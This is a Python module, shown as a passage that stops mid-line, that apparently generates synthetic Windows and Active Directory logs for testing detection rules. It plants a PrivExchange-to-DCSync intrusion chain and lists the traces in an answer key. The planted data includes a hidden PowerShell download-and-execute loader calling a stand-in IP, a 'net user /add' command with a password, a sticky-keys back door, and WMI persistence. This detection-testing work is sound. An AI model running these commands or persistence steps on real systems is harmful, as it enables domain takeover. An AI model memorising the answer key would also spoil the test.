"""The intrusion beyond the Exchange server: a domain controller's Security log in the collection,
the PrivExchange-style path to DCSync, footholds on the server, movement to other hosts and the
follow-on payloads (family `intrusion`), plus the benign look-alikes a real domain shows every day.

The DC's log is written for every collection (`DC01/EventLogs/winlogbeat-security.ndjson`, with a
stock `DC01/C/Windows/System32/drivers/etc/hosts` so the folder is read as host DC01), and so is the
Exchange server's System log: Kerberos traffic, the DC's own replication, an Exchange update
re-applying its inherit-only domain permissions, a backup agent's service and an administrator's
group change. The attack traces are added only when the family is planted; each is in the answer key
with the rule expected to find it.
"""

from __future__ import annotations

import json
import random
from dataclasses import dataclass
from datetime import date
from typing import Any

from . import files as fl
from . import winevents as we
from .benign import Population
from .formats import EventLog
from .iis_host_config import application_host
from .model import AD_DOMAIN, DAY_MS, DOMAIN_SID, HOUR_MS, INSTALL_DIR, NETBIOS, SERVER_IP, iso
from .planter import Planter
from .rows import Req, emit
from .world import Schedule, World

INTRUSION = "intrusion"
DC_HOST = "DC01"
DC_IP = "10.10.1.5"
RELAY_IP = "10.10.9.66"  # an internal workstation the intruder relays from
ADMIN_WS_IP = "10.10.5.21"  # the administrators' jump host
SECURITY = "Microsoft-Windows-Security-Auditing"
SYSMON = "Microsoft-Windows-Sysmon"
RDP_CHANNEL = "Microsoft-Windows-TerminalServices-RemoteConnectionManager/Operational"
DOMAIN_DN = "DC=corp,DC=example"
GET_CHANGES = "1131f6aa-9c07-11d1-f79f-00c04fc2dcd2"
GET_CHANGES_ALL = "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2"
DOMAIN_DNS_CLASS = "19195a5b-6da0-11d0-afd3-00c04fd930c9"
USER_CLASS, GROUP_CLASS, INETORG_CLASS = (
    "bf967aba-0de6-11d0-a285-00aa003049e2",
    "bf967a9c-0de6-11d0-a285-00aa003049e2",
    "4828cc14-1437-45bc-9b07-ad6f015e5f28",
)
EWP_SID = f"{DOMAIN_SID}-1118"  # Exchange Windows Permissions
ETS_SID = f"{DOMAIN_SID}-1119"  # Exchange Trusted Subsystem
INTRUDER = ("mailsync.svc", f"{DOMAIN_SID}-1187")  # the account the intruder made for itself
SETUP_ADMIN = ("exadmin", f"{DOMAIN_SID}-1105")  # the account that ran Exchange setup
# The domain's default DACL, shortened: what every 5136 on the domain root repeats in full.
DEFAULT_DACL = (
    f"(OA;;CR;{GET_CHANGES};;{DOMAIN_SID}-498)(OA;;CR;{GET_CHANGES_ALL};;DD)(OA;;CR;{GET_CHANGES};;BA)"
    f"(OA;;CR;{GET_CHANGES_ALL};;BA)(OA;;CR;89e95b76-444d-4c62-991a-0facbeda640c;;ED)(OA;;CR;{GET_CHANGES};;ED)"
    f"(OA;CIIO;RP;4c164200-20c0-11d0-a768-00aa006e0529;{USER_CLASS};RU)(A;;CCLCSWRPWPLOCRRCWDWO;;;DA)"
    f"(A;CI;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;{DOMAIN_SID}-519)(A;;RPRC;;;RU)(A;CI;CCLCSWRPWPLOCRSDRCWDWO;;;BA)"
    "(A;;LCRPLORC;;;ED)(A;;LCRPLORC;;;AU)(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;SY)"
    f"(OA;CIIO;WD;;{USER_CLASS};{EWP_SID})(OA;CIIO;WD;;{GROUP_CLASS};{EWP_SID})"
)
SACL = "S:(AU;SA;CR;;;DU)(AU;SA;CR;;;BA)(AU;SA;WPWDWO;;;WD)"

# Rules the planted traces are expected to raise (the end-to-end tests check each one).
RULES = frozenset(
    {
        "ad-domain-acl-replication-grant", "ad-domain-acl-writedacl-grant", "ad-dcsync-by-account",
        "ad-dcsync-unknown-computer", "ad-privileged-group-member-added", "ad-exchange-machine-ntlm-relay",
        "ews-push-subscription-script", "cmdlet-ad-permission-escalation", "cmdlet-role-group-member",
        "network-webworker-internal-connection", "logon-explicit-credentials-remote-tool", "logon-network-from-exchange",
        "share-admin-access", "service-install-psexec", "logon-rdp-from-exchange", "account-local-created",
        "process-account-or-admin-add", "service-install-suspicious", "scheduled-task-suspicious",
        "payload-scheduled-downloader", "registry-run-key", "registry-ifeo-debugger", "wmi-event-subscription",
        "iis-module-installed", "iis-native-module-outside-install", "process-iis-config-credentials", "file-event-transport-agents-config",
        "file-event-exchange-web-config", "ransomware-recovery-inhibit", "ransomware-note-or-extension",
        "file-ransom-note", "ad-object-acl-takeover", "ad-spn-added-to-user", "ad-delegation-or-key-credential-set",
    }
)  # fmt: skip


def _msg(title: str, data: dict[str, str]) -> str:
    return title + "\n" + "\n".join(f"\t{k}:\t{v}" for k, v in data.items())


def _security(event_id: int, task: str, title: str, data: dict[str, str]) -> dict[str, Any]:
    return {
        "provider": SECURITY, "id": event_id, "task": task, "event_data": data, "message": _msg(title, data),
        "pid": 636, "tid": 812,
    }  # fmt: skip


def _subject(name: str, sid: str, logon: str = "0x6a3c1f") -> dict[str, str]:
    return {"SubjectUserSid": sid, "SubjectUserName": name, "SubjectDomainName": NETBIOS, "SubjectLogonId": logon}


def ds_change(
    name: str,
    sid: str,
    corr: str,
    op_added: bool,
    sddl: str,
    dn: str = DOMAIN_DN,
    cls: str = "domainDNS",
    attr: str = "nTSecurityDescriptor",
) -> dict[str, Any]:
    """Security 5136: one half (value deleted / value added) of a directory-object change."""
    data = {
        **_subject(name, sid), "DSName": AD_DOMAIN, "DSType": "%%14676", "ObjectDN": dn,
        "ObjectGUID": "{d613d8a5-418b-4b7a-83b8-ae1511c502c4}", "ObjectClass": cls,
        "AttributeLDAPDisplayName": attr, "AttributeSyntaxOID": "2.5.5.15",
        "AttributeValue": sddl, "OperationType": "%%14674" if op_added else "%%14675",
        "OpCorrelationID": corr, "AppCorrelationID": "-",
    }  # fmt: skip
    return _security(5136, "Directory Service Changes", "A directory service object was modified.", data)


def ds_access(name: str, sid: str, right: str) -> dict[str, Any]:
    """Security 4662: an operation on the domain object using an extended right (control access)."""
    data = {
        **_subject(name, sid), "ObjectServer": "DS", "ObjectType": f"%{{{DOMAIN_DNS_CLASS}}}",
        "ObjectName": "%{d613d8a5-418b-4b7a-83b8-ae1511c502c4}", "OperationType": "Object Access", "HandleId": "0x0",
        "AccessList": "%%7688\r\n\t\t\t\t", "AccessMask": "0x100",
        "Properties": f"%%7688\r\n\t\t{{{right}}}\r\n\t{{{DOMAIN_DNS_CLASS}}}\r\n", "AdditionalInfo": "-",
    }  # fmt: skip
    return _security(4662, "Directory Service Access", "An operation was performed on an object.", data)


def member_added(event_id: int, group: str, group_sid: str, member_dn: str, member_sid: str, by: tuple[str, str]):
    """Security 4728 / 4732 / 4756: a member was added to a security-enabled group."""
    domain = "Builtin" if group_sid.startswith("S-1-5-32-") else NETBIOS
    data = {
        "MemberName": member_dn, "MemberSid": member_sid, "TargetUserName": group, "TargetDomainName": domain,
        "TargetSid": group_sid, **_subject(*by), "PrivilegeList": "-",
    }  # fmt: skip
    return _security(event_id, "Security Group Management", "A member was added to a security-enabled group.", data)


def logon(user: str, domain: str, sid: str, ip: str, logon_type: int, package: str, workstation: str = "-"):
    """Security 4624 with the authentication package given (Kerberos, NTLM, Negotiate)."""
    ntlm = package == "NTLM"
    data = {
        "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-", "SubjectLogonId": "0x0",
        "TargetUserSid": sid, "TargetUserName": user, "TargetDomainName": domain, "TargetLogonId": "0x7d2a11",
        "LogonType": str(logon_type), "LogonProcessName": "NtLmSsp " if ntlm else "Kerberos",
        "AuthenticationPackageName": package, "WorkstationName": workstation,
        "LmPackageName": "NTLM V2" if ntlm else "-", "KeyLength": "128" if ntlm else "0", "ProcessId": "0x0",
        "ProcessName": "-", "IpAddress": ip, "IpPort": "49822", "ImpersonationLevel": "%%1833",
    }  # fmt: skip
    return _security(4624, "Logon", "An account was successfully logged on.", data)


def kerberos_ticket(event_id: int, user: str, service: str, ip: str) -> dict[str, Any]:
    """Security 4768 (TGT) or 4769 (service ticket), written only by domain controllers."""
    data = {
        "TargetUserName": f"{user}@{AD_DOMAIN.upper()}", "TargetDomainName": AD_DOMAIN.upper(),
        "ServiceName": service, "TicketOptions": "0x40810000", "TicketEncryptionType": "0x12", "IpAddress": f"::ffff:{ip}",
        "IpPort": "53514", "Status": "0x0", "LogonGuid": "{f6d1cc3a-512e-e489-ae9e-8b993f455d88}",
    }  # fmt: skip
    task = "Kerberos Authentication Service" if event_id == 4768 else "Kerberos Service Ticket Operations"
    return _security(event_id, task, "A Kerberos ticket was requested.", data)


def service_installed(name: str, image: str, account: str = "LocalSystem") -> dict[str, Any]:
    """System 7045 (Service Control Manager): a service was installed."""
    data = {"ServiceName": name, "ImagePath": image, "ServiceType": "user mode service", "StartType": "auto start",
            "AccountName": account}  # fmt: skip
    return {
        "provider": "Service Control Manager", "id": 7045, "task": "None", "event_data": data,
        "message": _msg("A service was installed in the system.", data), "pid": 640, "tid": 7012,
    }  # fmt: skip


def service_installed_4697(name: str, image: str, by: tuple[str, str]) -> dict[str, Any]:
    data = {**_subject(*by), "ServiceName": name, "ServiceFileName": image, "ServiceType": "0x10",
            "ServiceStartType": "3", "ServiceAccount": "LocalSystem"}  # fmt: skip
    return _security(4697, "Security System Extension", "A service was installed in the system.", data)


def sysmon(event_id: int, task: str, data: dict[str, str]) -> dict[str, Any]:
    return {
        "provider": SYSMON, "id": event_id, "task": task, "action": task, "event_data": {"RuleName": "-", **data},
        "message": _msg(task.split(" (", 1)[0] + ":", data), "user": we.SYSTEM_USER, "pid": 2236, "tid": 3964,
    }  # fmt: skip


@dataclass
class _Logs:
    dc: EventLog
    exch_system: EventLog
    dc_rdp: EventLog


class Intrusion(Planter):
    """Writes the DC's and the server's extra logs; plants the family's traces when asked."""

    def __init__(self, world: World, rng: random.Random, pop: Population, sched: Schedule, planted: bool) -> None:
        super().__init__(world, rng, pop, sched)
        self.planted = planted
        self.n: dict[str, int] = {}
        dc_computer = f"{DC_HOST}.{AD_DOMAIN}"
        dc = EventLog(
            world.root, f"{DC_HOST}/EventLogs/winlogbeat-security.ndjson", world.sink, "Security", dc_computer
        )
        system = EventLog(
            world.root, f"{world.host}/EventLogs/winlogbeat-system.ndjson", world.sink, "System", world.computer
        )
        world.events["dc-security"] = dc  # flushed and closed with the server's own logs
        world.events["system"] = system
        rdp = EventLog(world.root, f"{DC_HOST}/EventLogs/winlogbeat-rdp.ndjson", world.sink, RDP_CHANNEL, dc_computer)
        world.events["dc-rdp"] = rdp
        self.logs = _Logs(dc, system, rdp)

    # ---- bookkeeping -------------------------------------------------------------------------
    def _dc(self, t: int, ev: dict[str, Any]):
        return self.logs.dc.event(t, ev, ref=True)

    def _trace(
        self, ref: Any, rule: str, t: int, marker: str, desc: str, *, path: str | None = None, line: int | None = None
    ) -> None:
        short = rule.split("-", 1)[1]
        self.n[short] = self.n.get(short, 0) + 1
        data = {
            "id": f"in-{short}-{self.n[short]}", "family": INTRUSION, "rule": rule, "time": iso(t),
            "marker": json.dumps(marker)[1:-1] if ref is not None else marker, "description": desc, "required": True,
        }  # fmt: skip
        if ref is None:
            data.update(path=path, line=line)
        self.w.key.trace(ref, **data)

    def _benign(self, ref: Any, kind: str) -> None:
        self.w.key.benign_at(ref, kind)

    # ---- plan ----------------------------------------------------------------------------------
    def plan(self) -> None:
        fl.write_planted(
            self.w.root,
            f"{DC_HOST}/C/Windows/System32/drivers/etc/hosts",
            "# localhost name resolution\r\n",
            self.tl.t0,
        )
        self._background()
        self._lookalikes()
        if self.planted:
            day = self.tl.clamp_day(self.tl.day_of(date(2021, 3, 6), 3))
            self._to_the_domain(day + 3 * HOUR_MS + 7 * 60_000)
            self._footholds(day + 4 * HOUR_MS + 12 * 60_000)
            self._impact(day + 6 * HOUR_MS + 40 * 60_000)

    def _background(self) -> None:
        """Kerberos tickets for the users and the Exchange server, the DC's own replication."""
        rng = self.rng
        users = [u.sam for u in self.pop.users][:20] or ["administrator"]
        exch = f"{self.w.host}$"
        for h in range(self.tl.t0, self.tl.t_end, HOUR_MS):
            for _ in range(rng.randint(1, 4)):
                t = h + rng.randrange(HOUR_MS)
                user = rng.choice(users)
                self.logs.dc.event(t, kerberos_ticket(4768, user, "krbtgt", f"10.10.5.{rng.randint(30, 220)}"))
                self.logs.dc.event(t + 40, kerberos_ticket(4769, user, exch, f"10.10.5.{rng.randint(30, 220)}"))
            t = h + rng.randrange(HOUR_MS)
            self.logs.dc.event(t, logon(exch, NETBIOS, f"{DOMAIN_SID}-1110", SERVER_IP, 3, "Kerberos"))
            if (h - self.tl.t0) % (6 * HOUR_MS) == 0:
                self.logs.dc.event(h + 900_000, ds_access(f"{DC_HOST}$", f"{DOMAIN_SID}-1000", GET_CHANGES))

    def _lookalikes(self) -> None:
        tl = self.tl
        dc = self.logs.dc
        # An Exchange update (/PrepareAD during the March 2021 update window) re-applies its inherit-only ACEs.
        t = (tl.downtime[0] if tl.downtime else tl.t0 + DAY_MS + 19 * HOUR_MS) + 5 * 60_000
        corr = "{" + self.ids.guid() + "}"
        extra = f"(OA;CIIO;WD;;{INETORG_CLASS};{EWP_SID})(OA;CI;RP;;{USER_CLASS};{ETS_SID})"
        self._benign(dc.event(t, ds_change(*SETUP_ADMIN, corr, False, f"O:BAG:BAD:AI{DEFAULT_DACL}{SACL}"), ref=True),
                     "exchange-setup-domain-acl-removed")  # fmt: skip
        self._benign(
            dc.event(t + 3, ds_change(*SETUP_ADMIN, corr, True, f"O:BAG:BAD:AI{DEFAULT_DACL}{extra}{SACL}"), ref=True),
            "exchange-setup-domain-acl-added",
        )
        self._benign(dc.event(t + 900, ds_access(f"{DC_HOST}$", f"{DOMAIN_SID}-1000", GET_CHANGES_ALL), ref=True),
                     "dc-own-replication")  # fmt: skip
        spn = ds_change(f"{self.w.host}$", f"{DOMAIN_SID}-1110", "{" + self.ids.guid() + "}", True,
                        f"exchangeMDB/{self.w.fqdn}", f"CN={self.w.host},CN=Computers,{DOMAIN_DN}", "computer",
                        "servicePrincipalName")  # fmt: skip
        self._benign(dc.event(t + 1_200, spn, ref=True), "exchange-setup-computer-spn")
        # An administrator's planned group change, and a jump-host RDP session to the DC.
        t2 = tl.t0 + 2 * DAY_MS + 10 * HOUR_MS + 14 * 60_000
        member = f"CN=Jane Doe,OU=Staff,{DOMAIN_DN}"
        ev = member_added(
            4728,
            "Finance Readers",
            f"{DOMAIN_SID}-1302",
            member,
            f"{DOMAIN_SID}-1240",
            ("Administrator", f"{DOMAIN_SID}-500"),
        )
        self._benign(dc.event(t2, ev, ref=True), "planned-group-change")
        admin_rdp = logon("Administrator", NETBIOS, f"{DOMAIN_SID}-500", ADMIN_WS_IP, 10, "Negotiate", "ADMJUMP01")
        self._benign(dc.event(t2 + 600_000, admin_rdp, ref=True), "admin-rdp-from-jump-host")
        # A backup agent's service on the Exchange server.
        t3 = tl.t0 + DAY_MS + 15 * HOUR_MS + 2 * 60_000
        svc = service_installed(
            "VeeamEndpointBackupSvc", '"C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe"'
        )
        self._benign(self.logs.exch_system.event(t3, svc, ref=True), "backup-agent-service")

    # ---- the path to the domain ------------------------------------------------------------------
    def _to_the_domain(self, t0: int) -> None:
        w, dc = self.w, self.logs.dc
        exch, exch_sid = f"{w.host}$", f"{DOMAIN_SID}-1110"
        intr, intr_sid = INTRUDER
        # the web shell tunnels RDP to the DC
        t = t0
        conn = sysmon(3, "Network connection detected (rule: NetworkConnect)", {
            "UtcTime": iso(t), "ProcessGuid": "{7e8a2f1c-5f2a-603f-1c02-000000001b00}", "ProcessId": "7344",
            "Image": we.W3WP, "User": "NT AUTHORITY\\SYSTEM", "Protocol": "tcp", "Initiated": "true",
            "SourceIsIpv6": "false", "SourceIp": SERVER_IP, "SourceHostname": w.fqdn, "SourcePort": "52144",
            "DestinationIsIpv6": "false", "DestinationIp": DC_IP, "DestinationHostname": f"dc01.{AD_DOMAIN}",
            "DestinationPort": "3389", "DestinationPortName": "ms-wbt-server",
        })  # fmt: skip
        self._trace(w.event("sysmon", t, conn, ref=True), "network-webworker-internal-connection", t,
                    DC_IP, "w3wp.exe opens a connection to the DC's RDP port")  # fmt: skip

        # PrivExchange: EWS push subscription, then the server's NTLM relayed to LDAP on the DC
        t = t0 + 60_000
        user = self.pop.users[0]

        def subscribe(t: int = t) -> None:
            req = Req("POST", "/EWS/Exchange.asmx", "", RELAY_IP, "", f"{NETBIOS}\\{user.sam}", proto="Ews",
                      be_stem="/EWS/Exchange.asmx", be_user=f"{NETBIOS}\\{user.sam}", soap="Subscribe",
                      ews_user=user.upn, auth="NTLM")  # fmt: skip
            refs = emit(w, self.rng, t, req, self.ids.guid())
            self._trace(refs.ews, "ews-push-subscription-script", t, ",Subscribe,",
                        "EWS push subscription sent by a client with no user agent (PrivExchange)")  # fmt: skip

        self.sched.at(t, subscribe)
        t = t0 + 71_000
        self._trace(self._dc(t, logon(exch, NETBIOS, exch_sid, RELAY_IP, 3, "NTLM", w.host)),
                    "ad-exchange-machine-ntlm-relay", t, RELAY_IP,
                    "the Exchange computer account logs on to the DC with NTLM from a workstation")  # fmt: skip
        for i, (ace, rule, desc) in enumerate((
            (f"(A;;WD;;;{intr_sid})", "ad-domain-acl-writedacl-grant", "WriteDACL on the domain granted"),
            (f"(OA;;CR;{GET_CHANGES};;{intr_sid})(OA;;CR;{GET_CHANGES_ALL};;{intr_sid})",
             "ad-domain-acl-replication-grant", "replication rights on the domain granted"),
        )):  # fmt: skip
            t = t0 + 72_000 + i * 1_500
            corr = "{" + self.ids.guid() + "}"
            dc.event(t, ds_change(exch, exch_sid, corr, False, f"O:BAG:BAD:AI{DEFAULT_DACL}{SACL}"))
            new = ds_change(exch, exch_sid, corr, True, f"O:BAG:BAD:AI{ace}{DEFAULT_DACL}{SACL}")
            self._trace(self._dc(t + 2, new), rule, t + 2, ace, f"5136 by {exch}: {desc} to {intr}")
        for i, right in enumerate((GET_CHANGES, GET_CHANGES_ALL)):
            t = t0 + 180_000 + i * 40
            self._trace(self._dc(t, ds_access(intr, intr_sid, right)), "ad-dcsync-by-account", t, right,
                        f"4662: {intr} uses a replication right (DCSync)")  # fmt: skip
        t = t0 + 240_000
        self._trace(self._dc(t, ds_access("WS-TEMP07$", f"{DOMAIN_SID}-1403", GET_CHANGES_ALL)),
                    "ad-dcsync-unknown-computer", t, "WS-TEMP07$", "4662: replication by a computer that is no DC")  # fmt: skip
        member = f"CN={intr},CN=Users,{DOMAIN_DN}"
        for i, (eid, group, gsid) in enumerate((
            (4756, "Exchange Windows Permissions", EWP_SID), (4728, "Domain Admins", f"{DOMAIN_SID}-512"),
        )):  # fmt: skip
            t = t0 + 600_000 + i * 5_000
            ev = member_added(eid, group, gsid, member, intr_sid, ("Administrator", f"{DOMAIN_SID}-500"))
            self._trace(self._dc(t, ev), "ad-privileged-group-member-added", t, group, f"{intr} added to {group}")
        # control over single accounts: reset-password right, an SPN to roast, delegation on a server
        svc_dn = f"CN=svc-backup,OU=Service Accounts,{DOMAIN_DN}"
        user_dacl = "(OA;;CR;ab721a53-1e2f-11d0-9819-00aa0040529b;;WD)(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;DA)(A;;RC;;;AU)"
        ace = f"(OA;;CR;00299570-246d-11d0-a768-00aa006e0529;;{intr_sid})"
        t = t0 + 630_000
        corr = "{" + self.ids.guid() + "}"
        dc.event(t, ds_change(exch, exch_sid, corr, False, f"O:DAG:DUD:AI{user_dacl}", svc_dn, "user"))
        ev = ds_change(exch, exch_sid, corr, True, f"O:DAG:DUD:AI{ace}{user_dacl}", svc_dn, "user")
        self._trace(
            self._dc(t + 2, ev), "ad-object-acl-takeover", t + 2, ace, f"reset-password right on svc-backup for {intr}"
        )
        t = t0 + 640_000
        ev = ds_change(intr, intr_sid, "{" + self.ids.guid() + "}", True, "http/roast.corp.example", svc_dn, "user",
                       "servicePrincipalName")  # fmt: skip
        self._trace(self._dc(t, ev), "ad-spn-added-to-user", t, "http/roast.corp.example", "SPN set on svc-backup")
        t = t0 + 650_000
        fs_dn = f"CN=FS01,OU=Servers,{DOMAIN_DN}"
        rbcd = f"O:BAD:(A;;CCDCLCSWRPWPDTLOCRSDRCWDWO;;;{DOMAIN_SID}-1188)"
        ev = ds_change(exch, exch_sid, "{" + self.ids.guid() + "}", True, rbcd, fs_dn, "computer",
                       "msDS-AllowedToActOnBehalfOfOtherIdentity")  # fmt: skip
        self._trace(self._dc(t, ev), "ad-delegation-or-key-credential-set", t, "msDS-AllowedToActOnBehalfOfOtherIdentity",
                    "resource-based delegation written on FS01 by the relayed Exchange account")  # fmt: skip
        for i, (name, params, rule) in enumerate((
            ("Add-ADPermission", f'-Identity "{DOMAIN_DN}" -User "{NETBIOS}\\{intr}" -ExtendedRights '
             '"Replicating Directory Changes All"', "cmdlet-ad-permission-escalation"),
            ("Add-RoleGroupMember", f'-Identity "Organization Management" -Member "{intr}"', "cmdlet-role-group-member"),
        )):  # fmt: skip
            t = t0 + 720_000 + i * 20_000
            ev = we.cmdlet(t, name=name, params=params, caller="NT AUTHORITY\\SYSTEM", caller_sid="S-1-5-18",
                           app="EMS", pid=8120)  # fmt: skip
            self._trace(
                w.event("msexchange-management", t, ev, ref=True), rule, t, name, f"{name} run from the web shell"
            )
        # on to the DC with the stolen administrator password
        t = t0 + 900_000
        explicit = {
            **_subject(exch, "S-1-5-18", "0x3e7"), "LogonGuid": "{00000000-0000-0000-0000-000000000000}",
            "TargetUserName": "Administrator", "TargetDomainName": NETBIOS, "TargetLogonGuid": "{00000000-0000-0000-0000-000000000000}",
            "TargetServerName": f"dc01.{AD_DOMAIN}", "TargetInfo": f"dc01.{AD_DOMAIN}", "ProcessId": "0x1ca0",
            "ProcessName": we.POWERSHELL, "IpAddress": "-", "IpPort": "-",
        }  # fmt: skip
        ev = _security(4648, "Logon", "A logon was attempted using explicit credentials.", explicit)
        self._trace(w.event("security", t, ev, ref=True), "logon-explicit-credentials-remote-tool", t,
                    f"dc01.{AD_DOMAIN}", "4648: PowerShell on the Exchange server uses the Administrator's password")  # fmt: skip
        admin = ("Administrator", NETBIOS, f"{DOMAIN_SID}-500")
        t = t0 + 905_000
        self._trace(self._dc(t, logon(*admin, SERVER_IP, 3, "NTLM", w.host)), "logon-network-from-exchange", t,
                    SERVER_IP, "network logon on the DC as Administrator from the Exchange server")  # fmt: skip
        share = {**_subject("Administrator", f"{DOMAIN_SID}-500"), "ObjectType": "File", "IpAddress": SERVER_IP,
                 "IpPort": "52190", "ShareName": "\\\\*\\ADMIN$", "ShareLocalPath": "\\??\\C:\\Windows",
                 "AccessMask": "0x1", "AccessList": "%%4416"}  # fmt: skip
        t = t0 + 906_000
        ev = _security(5140, "File Share", "A network share object was accessed.", share)
        self._trace(
            self._dc(t, ev), "share-admin-access", t, "ADMIN$", "ADMIN$ on the DC opened from the Exchange server"
        )
        t = t0 + 908_000
        ev = service_installed_4697("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe", ("Administrator", f"{DOMAIN_SID}-500"))
        self._trace(self._dc(t, ev), "service-install-psexec", t, "PSEXESVC", "PsExec service installed on the DC")
        t = t0 + 1_200_000
        rdp = logon(*admin, SERVER_IP, 10, "Negotiate", w.host)
        self._trace(self._dc(t, rdp), "logon-rdp-from-exchange", t, 'Negotiate',
                    "RDP logon on the DC as Administrator from the Exchange server")  # fmt: skip
        ev = {
            "provider": "Microsoft-Windows-TerminalServices-RemoteConnectionManager", "id": 1149, "task": "None",
            "user_data": {"xml_name": "EventXML", "Param1": "Administrator", "Param2": NETBIOS, "Param3": SERVER_IP},
            "message": f"Remote Desktop Services: User authentication succeeded:\n\nUser: Administrator\n"
            f"Domain: {NETBIOS}\nSource Network Address: {SERVER_IP}", "pid": 1088, "tid": 2412,
        }  # fmt: skip
        self._trace(self.logs.dc_rdp.event(t - 1_500, ev, ref=True), "logon-rdp-from-exchange", t - 1_500, "Param3",
                    "Remote Desktop 1149 on the DC with the Exchange server as source")  # fmt: skip

    # ---- footholds on the server ------------------------------------------------------------------
    def _proc(self, t: int, image: str, cmd: str, rule: str, marker: str, desc: str, parent: str = we.CMD) -> None:
        ev = we.sysmon_process(t, self.ids, image=image, cmd=cmd, parent_image=parent, parent_cmd=f'"{parent}"',
                               pid=5000 + self.rng.randrange(900) * 4, ppid=4412)  # fmt: skip
        self._trace(self.w.event("sysmon", t, ev, ref=True), rule, t, marker, desc)

    def _sysmon(
        self, t: int, event_id: int, task: str, data: dict[str, str], rule: str, marker: str, desc: str
    ) -> None:
        ev = sysmon(
            event_id, task, {"UtcTime": iso(t), "ProcessGuid": "{7e8a2f1c-5f2a-603f-2d04-000000001c00}", **data}
        )
        self._trace(self.w.event("sysmon", t, ev, ref=True), rule, t, marker, desc)

    def _footholds(self, t0: int) -> None:
        w = self.w
        host = w.host
        t = t0
        acct = {**_subject("Administrator", f"{DOMAIN_SID}-500"), "TargetUserName": "helpdesk",
                "TargetDomainName": host, "TargetSid": "S-1-5-21-1004336348-1177238915-682003330-1003",
                "SamAccountName": "helpdesk", "PrivilegeList": "-"}  # fmt: skip
        ev = _security(4720, "User Account Management", "A user account was created.", acct)
        self._trace(w.event("security", t, ev, ref=True), "account-local-created", t, 'helpdesk',
                    "local account helpdesk created on the Exchange server")  # fmt: skip
        t = t0 + 2_000
        ev = member_added(
            4732, "Administrators", "S-1-5-32-544", "-", acct["TargetSid"], ("Administrator", f"{DOMAIN_SID}-500")
        )
        self._trace(w.event("security", t, ev, ref=True), "ad-privileged-group-member-added", t, "S-1-5-32-544",
                    "helpdesk added to the server's Administrators")  # fmt: skip
        net = "C:\\Windows\\System32\\net.exe"
        self._proc(t0 - 1_000, net, "net user helpdesk Sup0rt!2021 /add", "process-account-or-admin-add", "/add",
                   "net user /add")  # fmt: skip
        t = t0 + 60_000
        svc = service_installed("msupdate", "cmd /c C:\\ProgramData\\msupdate.exe")
        self._trace(self.logs.exch_system.event(t, svc, ref=True), "service-install-suspicious", t, "msupdate",
                    "service msupdate runs a program from ProgramData")  # fmt: skip
        t = t0 + 120_000
        loader = "powershell -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.88/a.jsp')"
        task = {**_subject("Administrator", f"{DOMAIN_SID}-500"), "TaskName": "\\Microsoft\\Windows\\Bluetooths",
                "TaskContent": ('<?xml version="1.0" encoding="UTF-16"?><Task><Triggers><TimeTrigger><Repetition>'
                                "<Interval>PT50M</Interval></Repetition></TimeTrigger></Triggers><Actions><Exec>"
                                f"<Command>cmd.exe</Command><Arguments>/c {loader}</Arguments></Exec></Actions></Task>")}  # fmt: skip
        ref = w.event(
            "security",
            t,
            _security(4698, "Other Object Access Events", "A scheduled task was created.", task),
            ref=True,
        )
        self._trace(
            ref, "payload-scheduled-downloader", t, "DownloadString", "scheduled PowerShell loader (LemonDuck-style)"
        )
        self._trace(ref, "scheduled-task-suspicious", t, "Bluetooths", "scheduled task running cmd/PowerShell")
        reg = "Registry value set (rule: RegistryEvent)"
        ps = we.POWERSHELL
        self._sysmon(t0 + 180_000, 13, reg, {"EventType": "SetValue", "ProcessId": "4120", "Image": ps,
                     "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\svchosts",
                     "Details": "C:\\ProgramData\\svchosts.exe"}, "registry-run-key", "CurrentVersion\\Run\\svchosts",
                     "Run key starts a program from ProgramData")  # fmt: skip
        self._sysmon(t0 + 200_000, 13, reg, {"EventType": "SetValue", "ProcessId": "4120", "Image": ps,
                     "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution "
                     "Options\\sethc.exe\\Debugger", "Details": "C:\\Windows\\System32\\cmd.exe"},
                     "registry-ifeo-debugger", "sethc.exe\\Debugger", "sticky-keys debugger back door")  # fmt: skip
        wmi = (
            (19, "WmiEventFilter activity detected (rule: WmiEvent)", {"Operation": "Created", "User": "CORP\\Administrator",
             "EventNamespace": '"root\\\\cimv2"', "Name": '"SCM Event Filter"',
             "Query": "\"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'\""}),
            (20, "WmiEventConsumer activity detected (rule: WmiEvent)", {"Operation": "Created", "User": "CORP\\Administrator",
             "Name": '"SCM Event Consumer"', "Type": "Command Line", "Destination": f'"{loader}"'}),
            (21, "WmiEventConsumerToFilter activity detected (rule: WmiEvent)", {"Operation": "Created",
             "User": "CORP\\Administrator", "Consumer": '"CommandLineEventConsumer.Name=\\"SCM Event Consumer\\""',
             "Filter": '"__EventFilter.Name=\\"SCM Event Filter\\""'}),
        )  # fmt: skip
        for i, (eid, task_name, data) in enumerate(wmi):
            self._sysmon(t0 + 240_000 + i * 500, eid, task_name, data, "wmi-event-subscription", "SCM Event",
                         f"Sysmon {eid}: WMI subscription part")  # fmt: skip
        appcmd = "C:\\Windows\\System32\\inetsrv\\appcmd.exe"
        self._proc(t0 + 300_000, appcmd, f'{appcmd} install module /name:ExchangeHttpAuth /image:"C:\\ProgramData\\'
                   'Microsoft\\Crypto\\httpauth.dll"', "iis-module-installed", "install module", "native IIS module added")  # fmt: skip
        text, line = application_host(("ExchangeHttpAuth", "C:\\ProgramData\\Microsoft\\Crypto\\httpauth.dll"))
        rel = fl.write_planted(w.root, f"{w.host}/C/Windows/System32/inetsrv/config/applicationHost.config", text,
                               t0 + 301_000)  # fmt: skip
        self._trace(None, "iis-native-module-outside-install", t0 + 301_000, "ExchangeHttpAuth",
                    "native IIS module from ProgramData in applicationHost.config", path=rel, line=line)  # fmt: skip
        self._proc(t0 + 320_000, appcmd, f"{appcmd} list apppool /text:*", "process-iis-config-credentials",
